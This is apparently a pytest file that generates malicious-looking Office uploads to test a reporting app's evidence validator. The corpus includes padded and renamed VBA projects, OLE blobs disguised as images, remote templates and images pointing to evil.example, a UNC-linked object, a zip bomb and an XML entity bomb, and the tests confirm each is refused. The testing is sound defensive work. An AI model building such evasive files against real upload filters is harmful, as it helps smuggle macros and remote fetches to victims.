"""Uploads read as Office reads them (issue 14, finding 2): the padded, renamed and
docx-template variants that got past the old check by name and size, each refused with a
Spanish message; clean files still accepted. The corpus is generated here."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from reporting import ooxml
from reporting.evidence import EvidenceError, check_upload
from reporting.ooxml import find_active_content
from reporting.tests.test_active_content import EXTERNAL_LINK_XML, plain_workbook, rewrite
from reporting.xlsx import WorkbookRejected, open_workbook

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
PAD = b"<!--" + b"x" * (1100 * 1024) + b"-->"  # a 1,1 MB XML comment
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4096  # a compound file's header


def relationship(rid, kind, target, external=False):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def pad(data: bytes) -> bytes:
    """A 1,1 MB comment before the root element's closing tag."""
    end = data.rindex(b"</")
    return data[:end] + PAD + data[end:]


def patched(part, add_before, insert, padded=False):
    def patch(name, data):
        if name == part:
            data = data.replace(add_before, insert + add_before)
            if padded:
                data = pad(data)
        elif name == "[Content_Types].xml" and padded:
            data = pad(data)
        return data

    return patch


def override(part, content_type):
    return f'<Override PartName="/{part}" ContentType="{content_type}"/>'.encode()


# --- Workbooks --------------------------------------------------------------------------------


def padded_external_link() -> bytes:
    """The finding: a 1,1 MB comment in [Content_Types].xml and the rels, and the external
    link moved to xl/links/ (openpyxl still reads it)."""
    link_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    rels = patched(
        "xl/_rels/workbook.xml.rels",
        b"</Relationships>",
        relationship("rId99", f"{R}/externalLink", "links/externalLink1.xml"),
        padded=True,
    )

    def patch(name, data):
        data = rels(name, data)
        if name == "[Content_Types].xml":
            data = data.replace(
                b"</Types>", override("xl/links/externalLink1.xml", link_type) + b"</Types>"
            )
        if name == "xl/workbook.xml":
            data = data.replace(
                b"</workbook>",
                b'<externalReferences><externalReference r:id="rId99"/></externalReferences>'
                b"</workbook>",
            )
        return data

    links_rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships">'
        + relationship("rId1", f"{R}/externalLinkPath", "file:///C:/otro.xlsx", external=True)
        + b"</Relationships>"
    )
    return rewrite(
        plain_workbook(),
        {
            "xl/links/externalLink1.xml": EXTERNAL_LINK_XML,
            "xl/links/_rels/externalLink1.xml.rels": pad(links_rels),
        },
        patch=patch,
    )


def renamed_padded_vba(content_type=True, relationship_only=False) -> bytes:
    """The finding: the VBA project renamed (no «vbaProject» in its name) and the package
    padded past the old 1 MB limit."""
    part = "xl/printerSettings/settings9.bin"

    def patch(name, data):
        data = patched(
            "xl/_rels/workbook.xml.rels",
            b"</Relationships>",
            relationship("rId98", f"{MS}/vbaProject", "printerSettings/settings9.bin"),
            padded=True,
        )(name, data)
        if name == "[Content_Types].xml" and content_type:
            data = data.replace(
                b"</Types>", override(part, "application/vnd.ms-office.vbaProject") + b"</Types>"
            )
        return data

    body = b"<xml/>" if relationship_only else OLE
    return rewrite(plain_workbook(), {part: body}, patch=patch)


def ole_by_signature_only() -> bytes:
    """A compound file hidden as an image, no content type, no relationship."""
    return rewrite(plain_workbook(), {"xl/media/image1.png": OLE})


def macro_sheet_renamed() -> bytes:
    part = "xl/worksheets/sheet9.xml"
    kind = "application/vnd.ms-excel.macrosheet+xml"

    def patch(name, data):
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", override(part, kind) + b"</Types>")
        return data

    return rewrite(plain_workbook(), {part: b"<xm:macrosheet/>"}, patch=patch)


def remote_image_workbook() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships">'
        + relationship("rId1", f"{R}/image", "https://evil.example/pixel.png", external=True)
        + b"</Relationships>"
    )
    return rewrite(plain_workbook(), {"xl/drawings/_rels/drawing1.xml.rels": rels})


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        source = zipfile.ZipFile(io.BytesIO(plain_workbook()))
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr("xl/media/zeros.bin", b"\x00" * (ooxml.MAX_EXPANSION + 1))
    return out.getvalue()


# --- Word documents --------------------------------------------------------------------------


def docx(extra_rels=b"", settings_rels=b"", parts=None, types=b"") -> bytes:
    """A minimal .docx Word opens: one paragraph with a hyperlink (allowed)."""
    rel_ns = b"http://schemas.openxmlformats.org/package/2006/relationships"
    files = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        b'<Override PartName="/word/settings.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.wordprocessingml.settings+xml"/>' + types + b"</Types>",
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="'
        + rel_ns
        + b'">'
        + relationship("rId1", f"{R}/officeDocument", "word/document.xml")
        + b"</Relationships>",
        "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Acta'
        b"</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="'
        + rel_ns
        + b'">'
        + relationship("rId1", f"{R}/settings", "settings.xml")
        + relationship("rId2", f"{R}/hyperlink", "https://www.gov.co/", external=True)
        + extra_rels
        + b"</Relationships>",
        "word/settings.xml": b'<?xml version="1.0"?><w:settings xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"/>',
        "word/_rels/settings.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="'
        + rel_ns
        + b'">'
        + settings_rels
        + b"</Relationships>",
    }
    files.update(parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def remote_template_docx() -> bytes:
    """The finding: a remote attachedTemplate (Word fetches it on open)."""
    return docx(
        settings_rels=relationship(
            "rId1", f"{R}/attachedTemplate", "https://evil.example/plantilla.dotm", external=True
        )
    )


def remote_image_docx() -> bytes:
    return docx(relationship("rId3", f"{R}/image", "http://evil.example/a.png", external=True))


def ole_object_docx() -> bytes:
    return docx(
        relationship("rId3", f"{R}/oleObject", "embeddings/objeto.bin"),
        parts={"word/embeddings/objeto.bin": OLE},
        types=override(
            "word/embeddings/objeto.bin", "application/vnd.openxmlformats-officedocument.oleObject"
        ),
    )


def linked_ole_object_docx() -> bytes:
    return docx(relationship("rId3", f"{R}/oleObject", "\\\\servidor\\hoja.xls", external=True))


CORPUS = [
    ("padded-external-link", padded_external_link, "xlsx", "external_links"),
    ("renamed-padded-vba", renamed_padded_vba, "xlsx", "macros"),
    ("vba-by-relationship-only", lambda: renamed_padded_vba(False, True), "xlsx", "macros"),
    ("ole-by-signature-only", ole_by_signature_only, "xlsx", "macros"),
    ("excel4-macro-sheet-renamed", macro_sheet_renamed, "xlsx", "macros"),
    ("remote-image-workbook", remote_image_workbook, "xlsx", "external_links"),
    ("zip-bomb", zip_bomb, "xlsx", "too_large"),
    ("docx-remote-template", remote_template_docx, "docx", "external_links"),
    ("docx-remote-image", remote_image_docx, "docx", "external_links"),
    ("docx-ole-object", ole_object_docx, "docx", "macros"),
    ("docx-linked-ole-object", linked_ole_object_docx, "docx", "macros"),
]
MESSAGES = {
    "macros": "contiene macros u objetos incrustados",
    "external_links": "tiene vínculos a fuentes de datos externas",
    "too_large": "es demasiado grande al descomprimirlo",
}


@pytest.mark.parametrize("make, ext, kind", [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_each_variant_is_refused_as_evidence_with_a_spanish_message(make, ext, kind):
    content = make()
    assert find_active_content(content) == kind
    with pytest.raises(EvidenceError, match=MESSAGES[kind]):
        check_upload(f"soporte.{ext}", len(content), io.BytesIO(content))


@pytest.mark.parametrize(
    "make", [c[1] for c in CORPUS if c[2] == "xlsx"], ids=[c[0] for c in CORPUS if c[2] == "xlsx"]
)
def test_each_workbook_variant_is_refused_by_the_workbook_imports(make):
    with pytest.raises(WorkbookRejected) as refused:
        open_workbook(make())
    assert refused.value.errors[0].message.startswith("El libro")


def test_the_padded_corpus_is_what_the_finding_describes():
    content = padded_external_link()
    archive = zipfile.ZipFile(io.BytesIO(content))
    assert archive.getinfo("[Content_Types].xml").file_size > 1024 * 1024
    assert archive.getinfo("xl/_rels/workbook.xml.rels").file_size > 1024 * 1024
    assert not any(n.startswith("xl/externalLinks/") for n in archive.namelist())
    assert len(load_workbook(io.BytesIO(content))._external_links) == 1  # openpyxl reads it
    vba = zipfile.ZipFile(io.BytesIO(renamed_padded_vba()))
    assert not any("vba" in n.lower() for n in vba.namelist())


def test_clean_files_are_still_accepted():
    workbook, document = plain_workbook(), docx()
    assert find_active_content(workbook) is None and find_active_content(document) is None
    assert check_upload("libro.xlsx", len(workbook), io.BytesIO(workbook)).endswith("sheet")
    assert check_upload("acta.docx", len(document), io.BytesIO(document)).endswith("document")


def test_declared_sizes_over_the_cap_are_refused_before_unpacking(monkeypatch):
    content = renamed_padded_vba(content_type=False, relationship_only=True)
    monkeypatch.setattr(ooxml, "MAX_EXPANSION", 1024 * 1024)
    assert find_active_content(content) == "too_large"


def test_relationship_parts_are_streamed_with_a_cap_on_what_is_unpacked():
    """Whatever the sizes declare, reading stops once the cap is passed."""
    archive = zipfile.ZipFile(io.BytesIO(padded_external_link()))
    info = archive.getinfo("xl/_rels/workbook.xml.rels")
    with pytest.raises(ooxml.ActiveContent, match="too_large"):
        for _chunk in ooxml._Expansion(1024 * 1024).read(archive, info):
            pass


def test_xml_with_a_dtd_is_refused_not_expanded():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
    )
    content = rewrite(plain_workbook(), {"xl/_rels/extra.xml.rels": bomb})
    assert find_active_content(content) == "unreadable"
